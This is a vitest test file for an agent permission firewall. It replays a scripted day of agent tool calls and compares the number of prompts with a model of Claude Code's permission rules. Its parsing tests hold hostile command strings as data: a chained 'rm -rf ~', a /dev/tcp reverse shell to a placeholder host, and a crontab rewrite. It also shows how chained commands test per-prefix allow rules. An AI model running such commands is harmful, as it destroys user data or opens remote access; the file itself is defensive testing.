// Issue 23 item 6, "a day in the tests": a scripted working day of an agent (test/fixtures/human-day/
// day.json, ≥ 300 calls: read-only shell, reads, workspace writes, builds and tests, intended risky
// actions and unwanted ones, each with what a careful person decides) sent over HTTP to a real
// daemon, a scripted person answering the holds over the API, and the same day under a model of
// Claude Code's permission rules. The shell module runs a guard instead of /bin/sh: only the day's
// safe workspace commands really run; everything else is recorded. See the fixture's README.md.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import {
  bashPrefix,
  bashSegments,
  claudeCodeDay,
  type DayCall,
  dayRows,
  type DayRun,
  dayTable,
  formatDayTable,
  runHumanDay,
  type SystemFigures,
} from '@finger/testkit';

describe('a day of work through the firewall (issue 23 item 6)', () => {
  let run: DayRun;
  let table: SystemFigures[];
  const system = (name: string): SystemFigures => table.find((s) => s.system === name)!;
  const describeCall = (c: DayCall) => `#${c.index} ${c.tool} ${String(c.args.command ?? c.args.path)}`;

  beforeAll(async () => {
    run = await runHumanDay();
    table = dayTable(run);
    // a passing run is quiet: the table and every question asked with FINGER_DAY_REPORT=1 (or `npm run bench -- human-day`)
    if (process.env.FINGER_DAY_REPORT === '1') {
      console.log(`${formatDayTable(dayRows(table))}\nworkspace-write profile: ${run.workspace_write}`);
      for (const p of run.prompts) {
        console.log(`asked ${p.level} ${p.decision}: ${describeCall(run.calls[p.index]!)} — ${p.reason}`);
      }
    }
  }, 120_000);
  afterAll(() => {
    delete process.env.HUMAN_DAY_ALLOW;
  });

  it('the day is ≥ 300 calls of the whole mix; the risky ones are the intended and the unwanted ones', () => {
    expect(run.calls.length).toBeGreaterThanOrEqual(300);
    const kinds = new Map<string, number>();
    for (const c of run.calls) kinds.set(c.kind, (kinds.get(c.kind) ?? 0) + 1);
    for (const k of ['read-shell', 'read', 'write', 'build', 'intended', 'unwanted']) {
      expect([k, (kinds.get(k) ?? 0) >= 8]).toEqual([k, true]);
    }
    expect(run.calls.filter((c) => c.risky !== (c.kind === 'intended' || c.kind === 'unwanted'))).toEqual([]);
    expect(run.calls.filter((c) => c.kind === 'unwanted' && c.decide !== 'reject')).toEqual([]);
    // both halves hold unwanted calls
    expect(new Set(run.calls.filter((c) => c.kind === 'unwanted').map((c) => c.half))).toEqual(new Set([1, 2]));
  });

  it('nothing unwanted ever runs: the guard ran only safe workspace commands, and no unwanted call got past the firewall', () => {
    const reallyRan = run.outcomes.filter((o) => o.guard === 'ran').map((o) => run.calls[o.index]!);
    expect(reallyRan.length).toBeGreaterThan(50);
    expect(reallyRan.filter((c) => c.risky || c.decide === 'reject').map(describeCall)).toEqual([]);
    const unwantedThrough = run.outcomes.filter((o) => o.ran && run.calls[o.index]!.kind === 'unwanted');
    expect(unwantedThrough.map((o) => describeCall(run.calls[o.index]!))).toEqual([]);
    // every call got an answer the harness understands (no call lost, no lockout the person had to lift)
    expect(run.outcomes.filter((o) => o.via === 'other').map((o) => [describeCall(run.calls[o.index]!), o])).toEqual(
      [],
    );
    expect(run.unlocks).toBe(0);
  });

  it('done when: no risky call runs without the person seeing it first', () => {
    const unseen = system('finger').day.unseen.map((i) => describeCall(run.calls[i]!));
    expect(unseen).toEqual([]);
  });

  it('done when: in the second half, at most 1 question per 20 safe calls', () => {
    const h2 = system('finger').half2;
    expect(h2.safe).toBeGreaterThan(100);
    expect(h2.safe_prompts * 20).toBeLessThanOrEqual(h2.safe);
  });

  it('done when: fewer questions than the Claude Code model over the whole day (both variants)', () => {
    const finger = system('finger').day.prompts;
    expect(finger).toBeLessThan(system('claude-code').day.prompts);
    expect(finger).toBeLessThan(system('claude-code+ro').day.prompts);
  });

  it('the Claude Code model: prefixes per segment, a chained command needs every segment allowed', () => {
    expect(bashSegments(`npm test && rm -rf ~`)).toEqual(['npm test', 'rm -rf ~']);
    expect(bashSegments(`bash -i >& /dev/tcp/h/1 0>&1`)).toEqual(['bash -i >& /dev/tcp/h/1 0>&1']);
    expect(bashSegments(`(crontab -l; echo 'a | b') | crontab -`)).toEqual(['crontab -l', "echo 'a | b'", 'crontab -']);
    expect(['git push origin x', 'npm run lint', 'npx tsc -b', 'rm -rf ~', 'git -C x status'].map(bashPrefix)).toEqual([
      'git push',
      'npm run',
      'npx tsc',
      'rm',
      'git',
    ]);
    const call = (index: number, command: string, decide: DayCall['decide']): DayCall => ({
      index,
      step: index,
      half: 1,
      tool: 'shell.exec',
      args: { command },
      kind: 'build',
      risky: false,
      decide,
    });
    const day = [
      call(0, 'npm test', 'always'),
      call(1, 'npm test -- --watch=false', 'always'),
      call(2, 'npm test && rm -rf ~', 'reject'),
      call(3, 'npm publish', 'approve'),
    ];
    expect(claudeCodeDay(day, '/ws').map((o) => [o.asked, o.ran, o.note])).toEqual([
      [true, true, 'Bash: npm test'],
      [false, true, 'allow rule'],
      [true, false, 'Bash: rm'],
      [true, true, 'Bash: npm publish'],
    ]);
  });
});
